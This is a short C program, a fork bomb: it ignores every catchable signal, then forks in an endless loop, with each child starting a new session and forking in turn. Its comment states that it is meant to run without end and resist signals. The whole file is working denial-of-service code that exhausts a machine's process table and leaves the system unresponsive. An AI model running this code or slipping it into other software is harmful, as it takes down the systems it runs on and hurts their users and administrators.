// Forks without end; so do its children, and theirs. No signal that can be ignored ends them.
#include <signal.h>
#include <unistd.h>

int main(void) {
    for (int signal_number = 1; signal_number < 65; signal_number++)
        signal(signal_number, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
